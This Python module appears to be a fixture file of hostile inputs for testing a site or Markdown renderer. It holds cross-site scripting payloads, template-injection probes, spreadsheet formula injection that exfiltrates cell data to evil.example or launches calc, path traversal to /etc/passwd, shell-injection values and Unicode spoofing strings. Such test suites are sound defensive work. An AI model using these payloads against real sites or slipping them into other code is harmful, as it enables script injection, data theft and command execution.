"""What somebody would type to make a page do what its author never wrote, by family.

Whatever runs sets `window.__pwned`, or asks for something at evil.example.
"""

from __future__ import annotations

from itertools import chain, zip_longest

RUN = "window.__pwned=1"
ELSEWHERE = "evil.example"

SCRIPT = (
    f"<script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><ScRiPt src=//{ELSEWHERE}/x.js></sCrIpT>",
    f"</title></style></textarea></noscript></template></script><script>{RUN}</script>",
    f"<!-- --!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</code></pre></dd><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"`<script>{RUN}</script>`",
    f"``` \n<script>{RUN}</script>\n```",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"<svg/onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<input autofocus onfocus={RUN}>",
    f"<style>@import '//{ELSEWHERE}/x.css';</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<form action=//{ELSEWHERE}/><button>x</button></form>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<p style=\"background:url('//{ELSEWHERE}/x.png')\">",
    f"`<img src=x onerror={RUN}>`",
    f'`"` onpointerover=`{RUN}`',
)
LINKS = (
    f"javascript:{RUN}",
    f"[here](javascript:{RUN})",
    f"[here](<javascript:{RUN}>)",
    f"[here](java\tscript:{RUN})",
    f"[here](&#106;avascript:{RUN})",
    f"[here][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"data:text/html,<script>opener.{RUN}</script>",
    "[here](data:text/html;base64,PHNjcmlwdD4pwned)",
    f"vbscript:{RUN}",
    f"//{ELSEWHERE}/x",
    f'https://example.com/"onmouseover="{RUN}',
    f"https://example.com/'onmouseover='{RUN}",
    f"https://example.com@{ELSEWHERE}/\\@example.com",
    f"![picture](https://{ELSEWHERE}/track.png)",
    f"`javascript:{RUN}` [here](https://example.com/?javascript:{RUN})",
    f"\x01javascript:{RUN}",
)
PICTURES = (
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f'x.svg" onerror="{RUN}',
    f"x.svg?onerror={RUN}#<svg>",
    f"https://{ELSEWHERE}/track.svg",
)
MARKDOWN = (
    f"# Heading {{#id onclick={RUN}}}\n\n{{: onclick={RUN} }}",
    f"*[HTML]: x\n\nHTML and [^1]\n\n[^1]: <b onclick={RUN}>",
    '--8<-- "mkdocs.yml"\n\n[TOC]\n\n!!! note "x"\n    x',
    "```\nnever closed",
    "``` { .py onclick=x }\nx\n```",
    f'![x](x "onerror={RUN}") [x](x "\' onclick={RUN} ")',
    "| a | b |\n|---|:-:|\n| <b> | **c** |",
    "> > > - 1. > deep\n\n***bold_*_**__x__",
    "a\\\n\\<script\\>\n\n***\n\n===\n- [ ] x\n: y",
    "[[x]] [x][] [] ![] [x]( ) <> `` ` `` **",
    f'<a name="x" href="https://example.com" onclick="{RUN}">x</a>',
)
TEMPLATES = (
    "{{ 7*7 }}{% raw %}{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{# gone? #} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %(x)s %% {0} {x!r} {} }} {{ \\1 \\g<0> $1",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "{{figure:nope}} {{quote:nope}} {{image:nope}} {{figure:",
    "\\u003cscript\\u003e \\x3cscript\\x3e",
)
DIRECTIONS = (
    "paid \u202eyadot\u202c in full",
    "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069",
    "\u202aembedded \u202bagain\u202c",
    "har\u200bbor",
    "har\u200dbor\u200c\u200e\u200f",
    "har\u2060bor\ufeff",
    "shown\U000e0068\U000e0069\U000e0064",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f468\u200d\U0001f469\u200d\U0001f467",
)
LOOKALIKES = (
    "h\u0430rbor-foods",
    "\u0440ublished",
    "sync\u04cfine",
    "\u0391lpha",
    "https://ex\u0430mple.com/",
    "\u017fcript Kelvin \u212a",
    "\ufb01nance\u2010hours",
    "\uff1cscript\uff1e\uff1dx",
)
FORMULAS = (
    f'=HYPERLINK("https://{ELSEWHERE}/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    ";=1+1,=1+1\t=1+1",
    "\uff1d1+1",
)
CONTROLS = (
    "nul\x00l",
    "bell\x07 \x1b[31mred\x1b[0m \x1b]0;title\x07",
    "half \ud800 letter",
    "other half \udc00",
    "none \ufffe\uffff",
    "line\u2028paragraph\u2029next\x85",
    "back\x08\x7f\x9b31m",
    "name\n::error::not one of ours\n::stop-commands::x",
    "feed\x0c\x0btab\tend\r\n",
)
LONG = (
    "x" * 3_000,
    "<" * 1_000 + "\"'" * 100,
    "ﷺ" * 500,
    " ".join(f"word{chr(97 + n % 26)}{chr(97 + n // 26)}" for n in range(500)),
    "https://example.com/" + "a" * 2_000,
    "![" * 1_100,
    "\n" * 2_000 + "x",
    "a-" * 150 + "a",
)
PLACES = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "404.html",
    "sitemap.xml",
    "search/search_index.json",
    "assets/javascripts",
    ".htaccess",
    "a/./b//c/%2e%2e/d",
    "~root/$(touch x)/`id`",
    "x; rm -rf y | z & : * ? < > \\",
    "cases/everything",
    "index.html",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": SCRIPT,
    "handlers": HANDLERS,
    "links": LINKS,
    "pictures": PICTURES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "directions": DIRECTIONS,
    "lookalikes": LOOKALIKES,
    "formulas": FORMULAS,
    "controls": CONTROLS,
    "long": LONG,
    "places": PLACES,
}
MIXED = "mixed"
FAMILIES[MIXED] = tuple(
    payload
    for payload in chain.from_iterable(zip_longest(*FAMILIES.values()))
    if payload is not None and len(payload) < 1_000
)

DRAWINGS = {
    "script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>',
    "handler": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>',
    "link": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
    f'<a x:href="java&#9;script:{RUN}"><rect width="9" height="9"/></a></svg>',
    "foreign": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body'
    f' xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject></svg>',
    "animated": '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href"'
    f' to="javascript:{RUN}"/><rect width="9" height="9"/></a></svg>',
    "entity": '<!DOCTYPE svg [<!ENTITY x "&#60;script>">]>'
    '<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    "sheet": f'<?xml-stylesheet href="//{ELSEWHERE}/x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "loads": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://{ELSEWHERE}/x.png"/></svg>',
    "styled": '<svg xmlns="http://www.w3.org/2000/svg">'
    f"<style>@import url(//{ELSEWHERE}/x.css);</style></svg>",
    "html": f"<!doctype html><script>{RUN}</script>",
    "polyglot": f"GIF89a/*<svg/onload={RUN}>*/",
}
